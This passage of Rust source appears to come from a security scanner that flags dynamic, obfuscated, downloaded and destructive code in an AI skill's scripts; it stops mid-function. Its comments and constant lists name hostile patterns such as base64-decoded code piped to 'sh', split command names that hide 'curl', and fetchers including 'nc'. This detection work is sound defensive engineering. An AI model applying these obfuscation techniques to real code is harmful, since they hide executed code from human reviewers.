//! Code whose text is only known when it runs, read from tree-sitter's parse of shell, Python
//! and JavaScript, in three degrees:
//! - **dynamic code** (a reviewer looks): `eval`, `bash -c "$(…)"`/`sh -c "$X"`, `source <(…)`,
//!   an interpreter's inline code that is not written out (`python3 -c "$X"`, `node -e
//!   "$(cat f)"`, `perl -e`, `bash <<< "$X"`), text piped into a shell or interpreter, `xargs`
//!   feeding its input to `sh -c`, a script named by a variable that is none of the skill's
//!   files (`bash "$f"`), a command name that is a variable (`$PY x`) or is assembled from
//!   them (`$c$r`), Python `exec(`/`eval(`/`compile(` and JavaScript `eval(`, `new Function(`,
//!   `vm.runIn…(` of anything but a literal. A variable whose every assignment, default
//!   (`${PYTHON:-python3}`), array (`cmd=(python3 -m x)`) or `for` list is fixed text is
//!   read as those values; `$0` is the script itself. The `eval "$(ssh-agent -s)"` and
//!   `eval "$(pyenv init -)"` idioms are dynamic code too, named as such. `exec "$@"` and
//!   `exec node …` replace the shell with a fixed command and are not dynamic.
//! - **obfuscation** (security-sensitive): code decoded or decompressed and then run
//!   (`base64 -d | sh`, `bash -c "$(… | base64 -d)"`, `bash <<EOF` with `$(… base64 -d)`,
//!   `python3 -c "$(… base64 -d)"`, `exec(zlib.decompress(…))`, also through an alias
//!   `e = exec`, `getattr(__builtins__, …)`, `(0, eval)`, `globalThis['ev'+'al']`, and decoded
//!   text run as a command by `os.system`, `subprocess.*` or `execSync`), a command name
//!   split by quotes or escapes (`s""h`, `'b'ash`, `b\ash`; not `Google\ Chrome`), or
//!   assembled from variables that hold fixed text (`c=cu; r=rl; $c$r`): nothing but hiding
//!   does that.
//! - **remote code** (security-sensitive): a download piped into a shell when the downloader's
//!   name was hidden (`$c$r … | sh`); the plain spellings are [`super::sensitive`]'s.
//!
//! A heredoc fed to an interpreter (`python3 - <<EOF`) is read with that interpreter's
//! grammar. Dynamic code in a test helper is the suite's own business, unless a file of the
//! skill that is not a test runs it. Destructive commands ([`super::destructive`]) are read in
//! the same pass.

use std::collections::HashMap;

use serde::{Deserialize, Serialize};
use tree_sitter::{Node, Parser};

use super::Sources;
use super::destructive;
use super::evidence::Evidence;
use super::paths::is_test_path;
use super::shell::{self, Cmd, Input, Script, Shape, Word};
use super::syntax::{self, Grammar, Unit, excerpt, line_of, nodes, text};

/// How much a finding weighs.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Kind {
    /// Escalates: a reviewer reads what it runs.
    Dynamic,
    /// Security-sensitive: code hidden from a reader.
    Obfuscated,
    /// Security-sensitive: downloaded code run.
    RemoteCode,
    /// Security-sensitive: `rm -rf` of `/` or a home.
    Destructive,
}

/// One finding.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Finding {
    pub kind: Kind,
    #[serde(flatten)]
    pub evidence: Evidence,
}

/// Everything found, in file and line order, one per (kind, what, file, line).
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Dynamic {
    pub found: Vec<Finding>,
}

impl Dynamic {
    /// The findings of one kind.
    pub fn of(&self, kind: Kind) -> impl Iterator<Item = &Evidence> {
        self.found
            .iter()
            .filter(move |f| f.kind == kind)
            .map(|f| &f.evidence)
    }
}

/// How much of a call or command a finding quotes.
const QUOTED: usize = 60;

/// Shells: `-c` takes a script, and with no script they run standard input.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "busybox"];

/// Programs that run the code they read on standard input when given no script.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish", "python", "python2", "python3",
    "node", "perl", "ruby", "php", "pwsh", "lua", "deno", "bun",
];

const FETCHERS: &[&str] = &["curl", "wget", "fetch", "aria2c", "http", "nc", "ncat"];

/// Heredocs inside heredocs are read this many levels deep.
const MAX_HEREDOC_DEPTH: usize = 4;

/// The file being read and the skill's files, to tell whether a script it runs is one of them.
struct Context<'a> {
    files: &'a [super::Source],
    source: &'a super::Source,
}

/// The flag that makes an interpreter run its next word as code: `python3 -c`, `node -e`,
/// `perl -ne`, `ruby -e`, `php -r`, `pwsh -Command`; shells' `-c` is [`dash_c`]'s.
fn inline_code<'w>(program: &str, args: &'w [Word]) -> Option<&'w Word> {
    let stem = program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    let is_flag = |t: &str| -> bool {
        let short =
            |letters: &[char]| t.starts_with('-') && !t.starts_with("--") && t.contains(letters);
        match stem {
            "python" | "pypy" => short(&['c']),
            "node" | "nodejs" | "bun" => {
                matches!(t, "-e" | "--eval" | "-p" | "--print" | "-pe")
            }
            "deno" => t == "eval",
            "perl" => short(&['e', 'E']),
            "ruby" | "lua" => short(&['e']),
            "php" => t == "-r",
            "pwsh" | "powershell" => {
                t.eq_ignore_ascii_case("-c")
                    || t.eq_ignore_ascii_case("-command")
                    || t.to_ascii_lowercase().starts_with("-e")
            }
            _ => false,
        }
    };
    let at = args.iter().position(|a| is_flag(a.text()))?;
    args.get(at + 1)
}

/// The grammar an interpreter reads its code with.
fn grammar_of(program: &str) -> Option<Grammar> {
    match super::runs::runs_as(program)? {
        super::code_lines::Lang::Shell => Some(Grammar::Bash),
        super::code_lines::Lang::Python => Some(Grammar::Python),
        super::code_lines::Lang::JavaScript => Some(Grammar::JavaScript),
        _ => None,
    }
}

/// What a command runs, with its arguments: its program, or the fixed values of the variable
/// it is named by (`$SED_INPLACE` set to `sed -i`, `$SUDO` to `sudo` or nothing), past
/// wrappers. `None` when it is not known.
fn programs<'c>(cmd: &'c Cmd, script: &Script) -> Option<Vec<(String, &'c [Word])>> {
    if let Some(program) = cmd.program() {
        return Some(vec![(program.to_owned(), &cmd.args[..])]);
    }
    if let Some(program) = versioned(&cmd.name, script) {
        return Some(vec![(program, &cmd.args[..])]);
    }
    let Shape::Variable(name) = &cmd.name.shape else {
        return None;
    };
    let values = script.values_of(name)?;
    let mut found = Vec::new();
    for value in values {
        let first = value.split_whitespace().next().unwrap_or_default();
        let first = first.rsplit('/').next().unwrap_or(first);
        let wrapper = matches!(
            first,
            "" | "sudo" | "doas" | "env" | "exec" | "nohup" | "command"
        );
        if wrapper {
            // `$SUDO bash -c …`: the command after it.
            let at = cmd.args.iter().position(|a| !a.text().starts_with('-'));
            if let Some((next, at)) = at.and_then(|at| Some((cmd.args[at].value.as_deref()?, at))) {
                let next = next.rsplit('/').next().unwrap_or(next);
                found.push((next.to_owned(), &cmd.args[at + 1..]));
            }
        } else {
            found.push((first.to_owned(), &cmd.args[..]));
        }
    }
    Some(found)
}

/// A command name that is a program written out and a version from variables
/// (`python${PYTHON_VERSION}`, `pip${MAJOR}.${MINOR}`), every value of which is digits and
/// dots written here: the program's base name with the first values. Letters that come from a
/// variable (`c${u}rl`, `$c$r`) are not a version.
fn versioned(name: &Word, script: &Script) -> Option<String> {
    use shell::Piece;
    let version = |v: &str| {
        v.starts_with(|c: char| c.is_ascii_digit())
            && v.chars().all(|c| c.is_ascii_digit() || c == '.')
    };
    let pieces = shell::template_pieces(&name.template);
    let Some(Piece::Text(stem)) = pieces.first() else {
        return None;
    };
    let stem = stem.rsplit('/').next().unwrap_or(stem);
    if !stem.starts_with(|c: char| c.is_ascii_alphabetic())
        || !stem
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
    {
        return None;
    }
    let mut program = stem.to_owned();
    for piece in &pieces[1..] {
        match piece {
            Piece::Text(text) if text.chars().all(|c| c.is_ascii_digit() || c == '.') => {
                program.push_str(text);
            }
            Piece::Variable(variable) => {
                let values = script.values_of(variable)?;
                if !values.iter().all(|v| version(v)) {
                    return None;
                }
                program.push_str(&values[0]);
            }
            _ => return None,
        }
    }
    Some(program)
}

/// Find the dynamic, obfuscated and destructive code of a skill.
pub fn analyze(sources: &Sources) -> Dynamic {
    let mut found = Vec::new();
    let mut parser = Parser::new();
    for source in &sources.files {
        // A suite's own helpers (a coverage tracer compiling the file it measures) are not
        // what the skill runs, unless the skill runs them; hidden or destructive code is
        // flagged wherever it is.
        let tests = is_test_path(&source.path) && !source.run_by_skill;
        let mut push = |kind: Kind, line: u32, what: String| {
            if kind == Kind::Dynamic && tests {
                return;
            }
            let finding = Finding {
                kind,
                evidence: Evidence::new(what, &source.path, line),
            };
            if !found.contains(&finding) {
                found.push(finding);
            }
        };
        let context = Context {
            files: &sources.files,
            source,
        };
        // Heredocs fed to an interpreter are read with its grammar, a few levels deep.
        let mut units: Vec<(Unit<'_>, usize)> =
            syntax::units(source).into_iter().map(|u| (u, 0)).collect();
        // A Markdown file's fences are one set of instructions: what one block sets, the
        // next uses.
        let mut document = Script::default();
        if source.extension() == "md" {
            for (unit, _) in units.iter().filter(|(u, _)| u.grammar == Grammar::Bash) {
                document.merge(&shell::read(&mut parser, unit));
            }
        }
        while let Some((unit, depth)) = units.pop() {
            match unit.grammar {
                Grammar::Bash => {
                    let mut script = shell::read(&mut parser, &unit);
                    script.inherit(&document);
                    let bodies = in_shell(&script, &unit, &context, &mut push);
                    if depth < MAX_HEREDOC_DEPTH {
                        units.extend(bodies.into_iter().map(|b| (b, depth + 1)));
                    }
                    for (line, what) in destructive::in_shell(&script) {
                        push(Kind::Destructive, line, what);
                    }
                }
                Grammar::Python => {
                    if let Some(tree) = syntax::parse(&mut parser, unit.grammar, unit.text) {
                        in_python(tree.root_node(), &unit, &mut push);
                    }
                }
                _ => {
                    if let Some(tree) = syntax::parse(&mut parser, unit.grammar, unit.text) {
                        in_javascript(tree.root_node(), &unit, &mut push);
                    }
                }
            }
        }
    }
    found.sort_by(|a, b| {
        (&a.evidence.file, a.evidence.line, a.kind).cmp(&(
            &b.evidence.file,
            b.evidence.line,
            b.kind,
        ))
    });
    Dynamic { found }
}

// ---------------------------------------------------------------------------------------------
// Shell

/// A program that turns encoded or compressed text back into what it hides.
fn is_decoder(cmd: &Cmd) -> bool {
    let Some(name) = cmd.program() else {
        return false;
    };
    let has = |flags: &[&str]| cmd.args.iter().any(|a| flags.contains(&a.text()));
    let short = |letter: char| {
        cmd.args.iter().any(|a| {
            let t = a.text();
            t.starts_with('-') && !t.starts_with("--") && t.contains(letter)
        })
    };
    match name {
        "base64" | "base32" | "basenc" => short('d') || short('D') || has(&["--decode"]),
        "xxd" => short('r') || has(&["--revert"]),
        "openssl" => short('d') || has(&["-base64", "-a"]),
        "gzip" | "bzip2" | "xz" | "lzma" | "zstd" | "lz4" | "brotli" => {
            short('d') || has(&["--decompress", "--uncompress"])
        }
        "uudecode" | "gunzip" | "zcat" | "bunzip2" | "bzcat" | "unxz" | "xzcat" | "unlzma"
        | "unzstd" | "zstdcat" | "rev" => true,
        _ => false,
    }
}

fn is_fetcher(cmd: &Cmd, script: &Script) -> Option<String> {
    let name = match &cmd.name.shape {
        Shape::Assembled(_) => script.resolve(&cmd.name)?,
        _ => return None,
    };
    FETCHERS.contains(&name.as_str()).then_some(name)
}

/// Whether an interpreter given `args` runs its standard input: no script, no `-c`/`-m`/`-e`.
pub(super) fn reads_stdin(args: &[Word]) -> bool {
    for arg in args {
        let t = arg.text();
        if t == "--" || t == "-" || t == "/dev/stdin" {
            return true;
        }
        if !t.starts_with('-') {
            return false;
        }
        if matches!(t, "-m" | "-e" | "-E" | "-r" | "--command" | "--eval")
            || (!t.starts_with("--") && t.contains('c'))
        {
            return false;
        }
    }
    true
}

/// The script a shell's `-c` (`-c`, `-lc`, `-ec`, `-xc`, …) runs.
fn dash_c(args: &[Word]) -> Option<&Word> {
    let at = args.iter().position(|a| {
        let t = a.text();
        t.starts_with('-') && !t.starts_with("--") && t.contains('c')
    })?;
    args[at + 1..].iter().find(|a| !a.text().starts_with('-'))
}

/// The findings of one unit of shell; returns the heredoc bodies it feeds to interpreters,
/// to be read in their language.
fn in_shell<'u>(
    script: &Script,
    unit: &Unit<'u>,
    context: &Context<'_>,
    push: &mut impl FnMut(Kind, u32, String),
) -> Vec<Unit<'u>> {
    let mut bodies = Vec::new();
    for cmd in &script.commands {
        let line = cmd.line;
        // The command name.
        match &cmd.name.shape {
            Shape::Split => push(
                Kind::Obfuscated,
                line,
                format!(
                    "command name split by quotes: {} (runs {})",
                    excerpt(&cmd.name.raw, QUOTED),
                    cmd.name.text()
                ),
            ),
            // `$PYTHON` set to `python3` or `${PYTHON:-python3}`, `$tool` over a fixed list,
            // `"${cmd[@]}"`, `"$0"`: what it runs is written here.
            Shape::Variable(name) if script.values_of(name).is_some() => {}
            // `PARSER="${ROOT}/scripts/parse.sh"; "$PARSER" x` runs a path, as
            // `"$ROOT/scripts/parse.sh" x` does; `target="$1"; "$target"` runs what the
            // caller passed, as `"$@"` does.
            Shape::Variable(name) if script.holds_paths(name) || script.holds_arguments(name) => {}
            Shape::Variable(_) => push(
                Kind::Dynamic,
                line,
                format!(
                    "command name from a variable: {}",
                    excerpt(&cmd.name.raw, QUOTED)
                ),
            ),
            // `python${PYTHON_VERSION}`: a program and its version, written here.
            Shape::Assembled(_) if versioned(&cmd.name, script).is_some() => {}
            Shape::Assembled(_) => match script.resolve(&cmd.name) {
                Some(resolved) => push(
                    Kind::Obfuscated,
                    line,
                    format!(
                        "command name assembled from variables: {} (runs {})",
                        excerpt(&cmd.name.raw, QUOTED),
                        excerpt(&resolved, QUOTED)
                    ),
                ),
                None => push(
                    Kind::Dynamic,
                    line,
                    format!(
                        "command name assembled from variables: {}",
                        excerpt(&cmd.name.raw, QUOTED)
                    ),
                ),
            },
            Shape::Substitution => {
                let decoded = script.inside(&cmd.name).any(is_decoder);
                push(
                    if decoded {
                        Kind::Obfuscated
                    } else {
                        Kind::Dynamic
                    },
                    line,
                    format!("command name from {}", excerpt(&cmd.name.raw, QUOTED)),
                );
            }
            Shape::Plain | Shape::Arguments | Shape::Path => {}
        }
        for (program, args) in programs(cmd, script).unwrap_or_default() {
            in_command(
                script,
                cmd,
                &program,
                args,
                unit,
                context,
                push,
                &mut bodies,
            );
        }
    }
    bodies
}

/// What one command runs as code, `program` and `args` being what it runs.
#[expect(
    clippy::too_many_arguments,
    reason = "one command's context, read in one place"
)]
fn in_command<'u>(
    script: &Script,
    cmd: &Cmd,
    program: &str,
    args: &[Word],
    unit: &Unit<'u>,
    context: &Context<'_>,
    push: &mut impl FnMut(Kind, u32, String),
    bodies: &mut Vec<Unit<'u>>,
) {
    let line = cmd.line;
    let interpreter = INTERPRETERS.contains(&program)
        || INTERPRETERS
            .contains(&program.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'));
    let xargs = xargs_replace(cmd);
    // Code from a substitution: `eval "$(…)"`, `bash -c "$(…)"`, `source <(…)`,
    // `python3 -c "$(…)"`, `perl -e "$X"`.
    let word = if SHELLS.contains(&program) {
        dash_c(args)
    } else if interpreter {
        inline_code(program, args)
    } else {
        None
    };
    let inline: Option<(&Word, &str)> = word.map(|w| {
        let at = args.iter().position(|a| std::ptr::eq(a, w)).unwrap_or(0);
        let flag = at.checked_sub(1).map_or("-c", |i| args[i].text());
        (w, flag)
    });
    let code_word: Option<(&Word, &str)> = match program {
        "eval" => args.first().map(|w| (w, "eval")),
        "source" | "." => args.first().filter(|w| w.process).map(|w| (w, program)),
        _ if interpreter => inline.or_else(|| args.iter().find(|w| w.process).map(|w| (w, "<(…)"))),
        _ => None,
    };
    // `… | xargs -0 bash -c`, `xargs -I{} sh -c {}`: the pipe's text is the code.
    if let Some(replace) = &xargs
        && interpreter
    {
        let has_flag = if SHELLS.contains(&program) {
            args.iter().any(|a| {
                let t = a.text();
                t.starts_with('-') && !t.starts_with("--") && t.contains('c')
            })
        } else {
            inline.is_some()
        };
        let from_input = match inline {
            None => has_flag,
            Some(word) => replace.as_deref().is_some_and(|r| word.0.raw.contains(r)),
        };
        if from_input {
            push(
                Kind::Dynamic,
                line,
                format!(
                    "xargs runs its input as code: {}",
                    excerpt(&script_text(cmd, unit), QUOTED)
                ),
            );
            return;
        }
    }
    if let Some((word, how)) = code_word {
        code_from(script, cmd, program, word, how, push);
    }
    let stdin = interpreter && reads_stdin(args) && xargs.is_none();
    // `bash <<< "$(…)"`, `python3 - <<EOF … EOF`.
    if stdin && let Some(input) = &cmd.input {
        match input {
            Input::HereString(word) => code_from(script, cmd, program, word, "<<<", push),
            Input::Here { body, first_line } => {
                if let Some(decoder) = script.inside(body).find(|c| is_decoder(c)) {
                    push(
                        Kind::Obfuscated,
                        line,
                        format!(
                            "decoded code run: {program} <<EOF with $(… {} …)",
                            decoder.program().unwrap_or_default()
                        ),
                    );
                }
                if let (Some(grammar), Some(text)) =
                    (grammar_of(program), unit.text.get(body.start..body.end))
                {
                    bodies.push(Unit {
                        grammar,
                        text,
                        first_line: *first_line,
                    });
                }
            }
            Input::File(_) => {}
        }
    }
    // Text piped into a shell or an interpreter.
    let stdin_code = stdin
        || (matches!(program, "source" | ".")
            && args.first().is_some_and(|a| a.text() == "/dev/stdin"));
    if stdin_code && !cmd.upstream.is_empty() && cmd.input.is_none() {
        let upstream: Vec<&Cmd> = cmd.upstream.iter().map(|&i| &script.commands[i]).collect();
        if let Some(decoder) = upstream.iter().find(|c| is_decoder(c)) {
            push(
                Kind::Obfuscated,
                line,
                format!(
                    "decoded code run: {} | {program}",
                    decoder.program().unwrap_or_default()
                ),
            );
        } else if let Some(fetcher) = upstream.iter().find_map(|c| is_fetcher(c, script)) {
            push(Kind::RemoteCode, line, format!("{fetcher} | {program}"));
        } else if upstream
            .iter()
            .any(|c| c.program().is_some_and(|p| FETCHERS.contains(&p)))
        {
            // A download written out (`curl … | sh`) is remote code, flagged once by
            // `super::sensitive`.
        } else {
            push(Kind::Dynamic, line, format!("code piped into {program}"));
        }
    }
    // `bash "$f"`: a script whose name is known only when it runs, and is none of the skill's.
    // A `SKILL.md` fence shows the reader a command (`bash ${CLAUDE_PLUGIN_ROOT}/x.sh`) whose
    // files live where the skill is installed; it is documentation, not a script to find.
    if interpreter
        && inline.is_none()
        && !context.source.extension().eq_ignore_ascii_case("md")
        && let Some(word) = super::runs::script_word(args)
        && !word.process
        && word.value.is_none()
        && !word.text().starts_with('-')
        && !runs_a_skill_file(word, script, context)
    {
        push(
            Kind::Dynamic,
            line,
            format!(
                "{program} {}: runs a file the gate could not find",
                excerpt(&word.raw, QUOTED)
            ),
        );
    }
}

/// Whether a script word not written as fixed text names a file of the skill: a path whose
/// fixed end is one, or a variable whose every value is.
fn runs_a_skill_file(word: &Word, script: &Script, context: &Context<'_>) -> bool {
    let found = |path: &str| super::runs::find(context.files, context.source, path).is_some();
    if let Some(path) = super::runs::file_argument(std::slice::from_ref(word))
        && found(&path)
    {
        return true;
    }
    match &word.shape {
        Shape::Variable(name) => {
            script
                .values_of(name)
                .is_some_and(|values| values.iter().all(|v| found(v)))
                // `JS="${SCRIPT_DIR}/animate.js"`: the fixed end of every path it is given.
                || script.holds_paths(name)
                    && script.templates.get(name).is_some_and(|all| {
                        all.iter().all(|t| {
                            let tail = t.rsplit(['}', ')']).next().unwrap_or_default();
                            tail.len() > 1 && found(tail)
                        })
                    })
        }
        _ => false,
    }
}

/// The command as written, for evidence.
fn script_text(cmd: &Cmd, unit: &Unit<'_>) -> String {
    unit.text
        .get(cmd.start..cmd.end)
        .unwrap_or_default()
        .to_owned()
}

/// When `xargs` runs the command: `Some(Some("{}"))` with `-I{}` (its replace string),
/// `Some(None)` without.
fn xargs_replace(cmd: &Cmd) -> Option<Option<String>> {
    let at = cmd.wrappers.iter().position(|w| {
        let t = w.text();
        t.rsplit('/').next() == Some("xargs")
    })?;
    let options = &cmd.wrappers[at + 1..];
    for (i, option) in options.iter().enumerate() {
        let t = option.text();
        if t == "-I" || t == "--replace" || t == "-i" {
            let value = if t == "-I" {
                options.get(i + 1).map(|w| w.text().to_owned())
            } else {
                Some("{}".to_owned())
            };
            return Some(value);
        }
        if let Some(value) = t
            .strip_prefix("-I")
            .or_else(|| t.strip_prefix("--replace="))
        {
            return Some(Some(value.to_owned()));
        }
    }
    Some(None)
}

/// `eval "$(…)"`, `bash -c "$X"`, `source <(…)`: what the word holds decides how it weighs.
fn code_from(
    script: &Script,
    cmd: &Cmd,
    program: &str,
    word: &Word,
    how: &str,
    push: &mut impl FnMut(Kind, u32, String),
) {
    let inside: Vec<&Cmd> = script.inside(word).collect();
    // `bash -c "$X"`, `node -e "$X"`, `bash <<< "$X"`; `eval "$X"`, `bash <(…)`.
    let shown = if how.starts_with('-') || how == "<<<" || how == "eval" && program != "eval" {
        format!("{program} {how} {}", excerpt(&word.raw, QUOTED))
    } else {
        format!("{program} {}", excerpt(&word.raw, QUOTED))
    };
    if let Some(decoder) = inside.iter().find(|c| is_decoder(c)) {
        push(
            Kind::Obfuscated,
            cmd.line,
            format!(
                "decoded code run: {shown} ({})",
                decoder.program().unwrap_or_default()
            ),
        );
        return;
    }
    let fixed = matches!(word.shape, Shape::Plain | Shape::Split);
    if fixed {
        // `bash -c 'echo hi'`: the code is right there. `eval` of fixed text is still eval.
        if program == "eval" {
            push(
                Kind::Dynamic,
                cmd.line,
                format!("eval of a string: {shown}"),
            );
        }
        return;
    }
    // `bash -c "$(curl -fsSL …)"`, `eval "$(wget …)"`: a download run, which
    // `super::sensitive` flags as remote code (its `REMOTE_CODE` patterns): once, there.
    let quoted = word.raw.trim_start().starts_with("\"$(");
    let remote = match how {
        "-c" => quoted,
        "eval" => quoted || word.raw.trim_start().starts_with("$("),
        _ => false,
    };
    if remote
        && word.template == "$(…)"
        && inside
            .first()
            .and_then(|c| c.program())
            .is_some_and(|p| matches!(p, "curl" | "wget"))
    {
        return;
    }
    // `eval "$(pyenv init -)"`: a fixed tool prints the code; common, and still a review.
    let idiom = program == "eval"
        && word.template == "$(…)"
        && inside.first().is_some_and(|c| {
            c.name.shape == Shape::Plain && c.args.iter().all(|a| a.value.is_some())
        });
    if idiom {
        let tool = inside.first().and_then(|c| c.program()).unwrap_or_default();
        push(
            Kind::Dynamic,
            cmd.line,
            format!("{shown}: runs the code {tool} prints (a setup idiom)"),
        );
    } else {
        push(Kind::Dynamic, cmd.line, shown);
    }
}

// ---------------------------------------------------------------------------------------------
// Python

/// Calls that decode or decompress (by the last part of their name).
const PYTHON_DECODERS: &[&str] = &[
    "b64decode",
    "b32decode",
    "b16decode",
    "b85decode",
    "a85decode",
    "urlsafe_b64decode",
    "standard_b64decode",
    "decodebytes",
    "decodestring",
    "decompress",
    "unhexlify",
    "a2b_base64",
    "a2b_hex",
    "fromhex",
    "loads",
    "decode",
];

fn in_python(root: Node<'_>, unit: &Unit<'_>, push: &mut impl FnMut(Kind, u32, String)) {
    let src = unit.text;
    // name = value, for `code = zlib.decompress(…); exec(code)`.
    let mut decoded_names: HashMap<&str, String> = HashMap::new();
    let mut aliases: Vec<&str> = Vec::new();
    for node in nodes(root) {
        if node.kind() == "assignment"
            && let (Some(left), Some(right)) = (
                node.child_by_field_name("left"),
                node.child_by_field_name("right"),
            )
            && left.kind() == "identifier"
        {
            if let Some(decoder) = python_decoder(right, src) {
                decoded_names.insert(text(left, src), decoder);
            }
            // `e = exec`: the name runs code too.
            if python_runs_code(right, src) {
                aliases.push(text(left, src));
            }
        }
    }
    for node in nodes(root) {
        if node.kind() != "call" {
            continue;
        }
        let Some(function) = node.child_by_field_name("function") else {
            continue;
        };
        let name = text(function, src);
        let aliased = function.kind() == "identifier" && aliases.contains(&name);
        let Some(first) = node
            .child_by_field_name("arguments")
            .and_then(|args| args.named_child(0))
        else {
            continue;
        };
        if let Some(what) = destructive::python_rmtree(name, text(first, src)) {
            push(
                Kind::Destructive,
                line_of(node, unit),
                format!("{} ({what})", excerpt(text(node, src), QUOTED)),
            );
            continue;
        }
        if !(aliased || python_runs_code(function, src)) {
            // `os.system(b64decode(…).decode())`, `subprocess.run(…, shell=True)`: decoded
            // text run as a command is hidden all the same.
            let last = name.rsplit('.').next().unwrap_or(name);
            let spawns = (name.starts_with("os.") || name.starts_with("subprocess."))
                && matches!(
                    last,
                    "system"
                        | "popen"
                        | "run"
                        | "call"
                        | "Popen"
                        | "check_output"
                        | "check_call"
                        | "getoutput"
                        | "getstatusoutput"
                );
            if spawns && let Some(decoder) = python_decoder(first, src) {
                push(
                    Kind::Obfuscated,
                    line_of(node, unit),
                    format!(
                        "decoded command run: {} ({decoder})",
                        excerpt(text(node, src), QUOTED)
                    ),
                );
            }
            continue;
        }
        if python_literal(first) {
            continue;
        }
        let shown = excerpt(text(node, src), QUOTED);
        let decoder = python_decoder(first, src).or_else(|| {
            (first.kind() == "identifier")
                .then(|| decoded_names.get(text(first, src)).cloned())
                .flatten()
        });
        match decoder {
            Some(decoder) => push(
                Kind::Obfuscated,
                line_of(node, unit),
                format!("decoded code run: {shown} ({decoder})"),
            ),
            None => push(Kind::Dynamic, line_of(node, unit), shown),
        }
    }
}

/// Whether an expression is Python's `exec`/`eval`/`compile`: by name, through `builtins`
/// (`builtins.exec`, `__import__('builtins').exec`, `__builtins__.eval`), or looked up by a
/// name built at run time (`getattr(__builtins__, 'ex' + 'ec')`).
fn python_runs_code(node: Node<'_>, src: &str) -> bool {
    let name = text(node, src);
    match node.kind() {
        "identifier" => matches!(name, "exec" | "eval" | "compile"),
        "attribute" => {
            let object = node
                .child_by_field_name("object")
                .map(|o| text(o, src))
                .unwrap_or_default();
            let attribute = node
                .child_by_field_name("attribute")
                .map(|a| text(a, src))
                .unwrap_or_default();
            object.contains("builtins") && matches!(attribute, "exec" | "eval" | "compile")
        }
        "call" => {
            let function = node
                .child_by_field_name("function")
                .map(|f| text(f, src))
                .unwrap_or_default();
            let first = node
                .child_by_field_name("arguments")
                .and_then(|a| a.named_child(0))
                .map(|a| text(a, src))
                .unwrap_or_default();
            function == "getattr" && first.contains("builtins")
        }
        _ => false,
    }
}

/// A string with no interpolation, or several of them side by side.
fn python_literal(node: Node<'_>) -> bool {
    let string =
        |n: Node<'_>| n.kind() == "string" && !nodes(n).any(|i| i.kind() == "interpolation");
    match node.kind() {
        "string" => string(node),
        "concatenated_string" => {
            let mut cursor = node.walk();
            node.named_children(&mut cursor).all(string)
        }
        _ => false,
    }
}

/// The first decoding call in `node` (`zlib.decompress`), if any.
fn python_decoder(node: Node<'_>, src: &str) -> Option<String> {
    nodes(node).find_map(|n| {
        if n.kind() != "call" {
            return None;
        }
        let function = text(n.child_by_field_name("function")?, src);
        let last = function.rsplit('.').next().unwrap_or(function);
        // `.decode()` of bytes is text, not code: only a codec's decode counts.
        let counts = match last {
            "decode" => function.starts_with("codecs."),
            "loads" => function.starts_with("marshal.") || function.starts_with("pickle."),
            _ => PYTHON_DECODERS.contains(&last),
        };
        counts.then(|| function.to_owned())
    })
}

// ---------------------------------------------------------------------------------------------
// JavaScript

const JS_DECODERS: &[&str] = &[
    "atob",
    "inflateSync",
    "inflateRawSync",
    "gunzipSync",
    "unzipSync",
    "brotliDecompressSync",
    "fromCharCode",
    "unescape",
];

fn in_javascript(root: Node<'_>, unit: &Unit<'_>, push: &mut impl FnMut(Kind, u32, String)) {
    let src = unit.text;
    let mut decoded_names: HashMap<&str, String> = HashMap::new();
    let mut aliases: Vec<&str> = Vec::new();
    for node in nodes(root) {
        if node.kind() == "variable_declarator"
            && let (Some(name), Some(value)) = (
                node.child_by_field_name("name"),
                node.child_by_field_name("value"),
            )
        {
            if let Some(decoder) = js_decoder(value, src) {
                decoded_names.insert(text(name, src), decoder);
            }
            // `const e = eval`.
            if value.kind() == "identifier" && text(value, src) == "eval" {
                aliases.push(text(name, src));
            }
        }
    }
    for node in nodes(root) {
        let (callee, constructed) = match node.kind() {
            "call_expression" => (node.child_by_field_name("function"), false),
            "new_expression" => (node.child_by_field_name("constructor"), true),
            _ => continue,
        };
        let Some(callee) = callee else {
            continue;
        };
        let name = text(callee, src);
        let global = |object: &str| matches!(object, "globalThis" | "window" | "global" | "self");
        let runs_code = match callee.kind() {
            "identifier" => {
                (name == "eval" || aliases.contains(&name)) && !constructed || name == "Function"
            }
            // `(0, eval)(…)`: an indirect eval.
            "parenthesized_expression" => name.trim_end_matches(')').trim_end().ends_with("eval"),
            // `globalThis['ev' + 'al'](…)`: a global looked up by a name built at run time.
            "subscript_expression" => {
                let object = callee
                    .child_by_field_name("object")
                    .map(|o| text(o, src))
                    .unwrap_or_default();
                let index = callee.child_by_field_name("index");
                global(object)
                    && index.is_some_and(|i| {
                        !js_literal(i) || matches!(text(i, src), "'eval'" | "\"eval\"")
                    })
            }
            "member_expression" => {
                let property = callee
                    .child_by_field_name("property")
                    .map(|p| text(p, src))
                    .unwrap_or_default();
                let object = callee
                    .child_by_field_name("object")
                    .map(|o| text(o, src))
                    .unwrap_or_default();
                matches!(
                    property,
                    "runInNewContext" | "runInThisContext" | "runInContext" | "compileFunction"
                ) || (constructed && property == "Script" && object == "vm")
                    || (name == "window.eval" || name == "globalThis.eval")
            }
            _ => false,
        };
        let Some(args) = node.child_by_field_name("arguments") else {
            continue;
        };
        if !runs_code {
            // `execSync(Buffer.from(p, 'base64').toString())`: a decoded shell command.
            let last = name.rsplit('.').next().unwrap_or(name);
            let spawns = matches!(
                last,
                "exec" | "execSync" | "spawn" | "spawnSync" | "execFile" | "execFileSync"
            );
            if spawns && let Some(decoder) = args.named_child(0).and_then(|a| js_decoder(a, src)) {
                push(
                    Kind::Obfuscated,
                    line_of(node, unit),
                    format!(
                        "decoded command run: {} ({decoder})",
                        excerpt(text(node, src), QUOTED)
                    ),
                );
            }
            continue;
        }
        let mut cursor = args.walk();
        let args: Vec<Node<'_>> = args.named_children(&mut cursor).collect();
        if args.iter().all(|a| js_literal(*a)) {
            continue;
        }
        let shown = excerpt(text(node, src), QUOTED);
        let decoder = args.iter().find_map(|a| {
